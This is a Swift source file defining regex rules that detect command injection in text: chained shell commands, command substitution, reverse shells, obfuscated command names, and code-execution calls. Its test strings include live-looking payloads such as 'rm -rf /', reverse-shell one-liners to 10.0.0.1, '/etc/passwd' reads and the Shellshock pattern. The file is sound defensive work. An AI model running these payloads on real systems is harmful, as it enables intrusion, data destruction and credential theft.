extension Rule {
    /// Command lines that a text adds to one it was put into.
    static let commands: [Rule] = [
        // The text ends the command that it stands in, with nothing or one value before the separator, and begins
        // another one. What begins with a command of its own is a command line that somebody pasted.
        Rule(
            "joined command", .command, .bare, "; & | \n \\n",
            #"""
            ^\s?(?!\(?\w{1,20}=\S{0,40};\s|\|\s\w+\s\||"\w[^"]*"\W?$)(?:["'`)}$]{0,3}\#
            |(?=\S{0,3}\s?[;&|\n\\]|[^\s;&|]{0,40}[\d.'"=%:/)@*])[^\s;&|$]{1,60})\s?["']?\)?(?:[;&]{1,2}|(?<=^)\n\#
            |(?<=[\d.'"])\n|%0a|\\n|;?\|\|?(?!\s?\#(textFilter)))[\s+]{0,2}[("'{@\\]{0,2}(?:\#(program)\#
            |/(?:usr/)?(?:local/)?s?bin/[a-z][\w.+-]{1,20}(?![\w/])|\w{1,20}=(?:\$\(|`)|phpinfo\(|\$\{@|get-help\b\#
            |start-sleep\b|(?:id|ps|pwd|who|w|env|set|dir|ver|uptime|reboot)(?:\s?$|\s?[;&|)`'"#}]))
            """#,
            finds: [
                "; rm -rf /", "x | whoami", "127.0.0.1 && cat /x", "x;id", "x && rm -rf /", "|| ping -n 5 127.0.0.1",
                "1;sleep 10",
            ],
            passes: [
                "ls | wc", "The cat; the dog", "cat; dog", "name|id", "make; make install", "test;", "R&D", "a | b",
                "\"dmesg | nc x 9\"",
            ]
        ),
        // The same behind any words, for what nobody joins to a command by chance.
        Rule(
            "joined look at secrets", .command, .bare, "; & | ` \n",
            #"""
            [;&|`\n][\s+]{0,2}[("'{@\\]{0,2}(?:(?:/(?:usr/)?s?bin/)?(?:whoami\b|id\s?;\#
            |cat\s?(?:/etc/(?:passwd|shadow)|\$)|uname -a|n(?:et)?c(?:at)? -\w{0,5}e|type\s?%system)\#
            |/bin/(?:id|cat|ls)\b)
            """#,
            finds: ["Something new;whoami", "a b | cat /etc/passwd"], passes: ["who? me | you", "`env`"]),
        // A command whose output the shell puts in, glued to a value or as all there is.
        Rule(
            "substituted command", .command, .bare, "` $( <(",
            #"""
            ^(?!\w{1,20}="?[$`])[^\s$`(]{0,40}[$<]\(\s?`?(?!uname -[rms]|pwd|which|date|basename|dirname|nproc\#
            |cat\s[\w.]+\))(?:\#(program)|(?:id|ps|pwd|w|who|env|dir)\s?[`)])\#
            |^["';|&]{0,2}`\s?(?:id|whoami|uname|cat ?[/<$]|nc |ping -|sleep \d|/bin/|netstat|ifconfig|ps -|nslookup\#
            |dig )[^`]{0,80}`["';|&\s]{0,3}$\#
            |^(?!\w{1,20}="?`)(?=[^`]{0,40}[\d.'"=;&|])[^\s`]{1,40}`\s?(?:\#(program)\#
            |(?:id|ps|pwd|w|who|env|dir)\s?`)
            """#,
            finds: ["$(whoami)", "`id`", "x=1`id`", "127.0.0.1$(sleep 5)"],
            passes: [
                "`ls -la`", "/lib/modules/$(uname -r)", "x=\"`ls | wc -l`\"", "what about `curl www.google.com` ?",
                "-v $(pwd):/app",
            ]),
        // Windows' programs and an added condition or loop of its shell, behind a separator.
        Rule(
            "joined batch command", .command, .bare, "; & | \n",
            #"""
            ^(?!\|\s\w+\s\|)[^\s;&|]{0,60}\s?["']?\s?[;&|]{1,2}\s?@?(?:for\s?/[dflr]\s\#
            |if\s(?:/i\s)?(?:not\s)?(?:exist|defined|errorlevel)\s|(?:cmd|powershell|pwsh)(?:\.exe)?\s?[/ -]\#
            |type\s?[%c\\]|dir\s?[c\\%]|net1?\s(?:user|localgroup|view|share)|reg\s(?:add|query|delete|save)|copy\s\#
            |i(?:wr|wmi|ex)\s)
            """#,
            finds: ["&for /f %a in ('dir') do echo %a", "x|if exist c:\\x echo y"],
            passes: ["if exist x.txt echo y", "this & if not"]),
        // A variable that is set only to be run.
        Rule(
            "command in a variable", .command, .bare, "= AND $ AND ; &",
            #"\b(\w{1,12})=\$?["'`]?[^;\n]{1,40}["'`]?[;&]{1,2}\s?\$\1\b"#,
            finds: ["x&cmd=$'id';$cmd"], passes: ["x = 5; y = $x", "A=1; echo $A"]),
        // A shell that is wired to a network, or fed with what is hidden from the reader.
        Rule(
            "remote shell", .command, .code, "bash sh nc ncat netcat dev bin base64",
            #"""
            \bbash -i\s?\d?>&|>&?\s?/dev/tcp/\d|\bn(?:et)?c(?:at)? -\w{0,5}e\w{0,2} \#
            |\bsh -i\s?2?>&|\bn(?:et)?c(?:at)?\b[^\n]{0,60} -e /bin/\w{0,2}sh\b\#
            |\bsh\s?<\s?/dev/tcp/|\|\s?\$0\b\#
            |\|\s?base64 -{1,2}d\w{0,8}\s?\|\s?(?:ba|da|z)?sh\b
            """#,
            finds: [
                "bash -i >& /dev/tcp/10.0.0.1/99 0>&1", "nc -e /bin/sh 10.0.0.1 99", "echo aWQ= | base64 -d | sh",
            ],
            passes: ["echo aGk= | base64 -d", "curl -fsSL https://get.example.com | sh"]),
        // Marks within a command's name that the shell drops serve to hide it.
        Rule(
            "hidden command", .command, .bare, "' \" \\ $ ^ { ? * [",
            #"""
            (?:^|[\s;|&`(/])['"]?(?!whoami|uname|cat|wget|curl|bash|ping|ifconfig|netstat)(?:\#(hidden("whoami"))\#
            |\#(hidden("uname"))|\#(hidden("cat"))(?=\s?[/<$'"])|\#(hidden("wget"))|\#(hidden("curl"))\#
            |\#(hidden("bash"))|\#(hidden("ping"))(?=\s[-\d])|\#(hidden("ifconfig"))|\#(hidden("netstat")))(?![\w'])\#
            |(?<=\w)\$\{?ifs\b|\$\{?ifs\}?[/<$&-]|^\{,[\w$"',#/. -]{2,60}\}$\#
            |[a-z]%\w{4,24}:~\d{1,2},-?\d{1,3}%\#
            |\{(?:cat|ls|id|nc|curl|wget|ping|bash|sh|echo|uname)(?:,[^{}\s,]{1,40}){1,6}\}\#
            |(?:^|["':=] ?)\(\)\s?\{\s?[:_]\#
            |\(\)\s?\{[^}]{0,40};\s?\}\s?;\s?(?:/|echo|cat|ping|id|wget|curl)
            """#,
            finds: ["cat${IFS}/etc/passwd", "() { :;}; id", "w''hoami", "c\\at /etc/passwd", ";w'h'oa$@mi"],
            passes: ["I can't", "a white \"cat\" 'ping'", "foo\\bar", "file.{js,ts}", "{a,b,c}", "it's a cat's"]),
        // A known file by a pattern that only it fits: what a filter of words is meant to miss.
        Rule(
            "file by a pattern", .command, .code, "/ AND ? * [",
            #"""
            /(?=[\w?*]{0,4}[?*])(?:[e?][t?][c?]|[b?][i?][n?]|[u?][s?][r?]|et\*|bi\*|\*tc)/\w{0,6}[?*\[a-z]\#
            |/\w{0,4}\[[!^]?[a-z/]{1,14}\](?:tc|in|sr|c|n|r)/[a-z?*\[]\#
            |/etc/(?=[\w?*]{0,8}[?*\[][\w\]?*])[p?*\[][\w?*\[\]/]{0,3}s[\w?*\[\]]{0,3}w[\w?*\[\]]{0,3}d?\b\#
            |^/(?:usr/)?s?bin/\w{0,8}(?:\[\w{1,3}\]|\?\w)\w{0,8}\#
            |/(?=\w{0,4}[?*\[])[e?*\[][\w?*\[\]/]{1,8}/(?:pass|\*wd|sha)
            """#,
            finds: ["cat /e?c/p?sswd", "cat /etc/p*sswd", "cat /[e]tc/passwd"],
            passes: ["ls /etc/*.conf", "grep -r x /usr/*/bin", "/?", "/etc/hosts?"]),
        // Calls of other languages that run a command for one who looks about.
        Rule(
            "call of a command", .command, .bare,
            """
            ( <? <! java getruntime processbuilder ognl memberaccess import os system exec passthru eval assert \
            phpinfo popen
            """,
            #"""
            (?<![\w>])(?:os\.)?(?:system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|eval\#
            |assert)\s?\(\s?(?:['"]\s?(?:/(?:usr/)?s?bin/|id\b|whoami|cat /|uname|wget |curl |nc |ping |sleep )\#
            |\$_(?:get|post|request|cookie)|base64_decode|gzinflate)\#
            |[;{'"]\s?(?:phpinfo|system|passthru|shell_exec)\(|phpinfo\(\)\s?;\#
            |^\W{0,3}\$\{@\w{2,20}\(|\{\$\{\s?@?\w{2,20}\(\#
            |^["'\w]{0,12}\s?[;:]\s?(?:phpinfo|phpversion|system|passthru|exit|die\#
            |print)\([^()]{0,80}(?:\([^()]{0,80}\))?\)\s?;\#
            |<\?(?:php|=)?\s?.{0,80}?(?:system|exec|eval|phpinfo|passthru|popen|include)\s?\(\#
            |java\.lang\.(?:runtime|processbuilder)|getruntime\(\)\.exec|#_memberaccess\#
            |\bognl\.|processbuilder\([^)]{0,60}\)\)?\.start\#
            |__import__\s?\(\s?['"](?:os|subprocess|sys|commands|pty)\#
            |require\(\s?['"]child_process['"]\)\s?\.\s?(?:exec|spawn)\#
            |java\.beans\.xmldecoder|<!--\s?#(?:exec|include|echo|config|printenv)
            """#,
            finds: ["system('id')", "<?php phpinfo(); ?>", "<!--#exec cmd=\"ls\"-->", "/bin/cat /x;system('id')"],
            passes: ["system(\"ls\")?", "require('./x')", "assert(x > 0)", "exec(x)", "subprocess.run(['ls'])"]),
        // A program by its full name on a file that nobody reads by chance.
        Rule(
            "program on a secret file", .command, .code, "bin type more cat",
            #"""
            ^["']?/(?:usr/)?s?bin/(?:cat|head|tail|less|more|nl|tac|type)\s\S{0,40}(?:\#(secretFile)|/etc/)\#
            |^["']?type\s?%?\w{0,20}%?[\w:\\]{0,30}(?:\#(secretFile)|[\\/]boot\.ini)
            """#,
            finds: ["/bin/cat /etc/passwd", "type %SystemRoot%\\win.ini"], passes: ["/bin/cat notes.txt"]),
    ]

    /// Behind a pipe these are ordinary.
    private static let textFilter = #"""
        (?:cat\s?$|(?:tee|less|more|head|tail|sort|uniq|wc|sed|awk|grep|cut|rev|tac|diff|xxd|od|nl|strings|tar|gzip\#
        |base64)\b)
        """#

    /// A command's name with marks between its letters that a shell drops.
    private static func hidden(_ name: String) -> String {
        name.map(String.init).joined(separator: #"(?:['"\\^]|``|\$\(\)|\$[@*\d]|\$\{?\w?\})*+"#)
    }
}
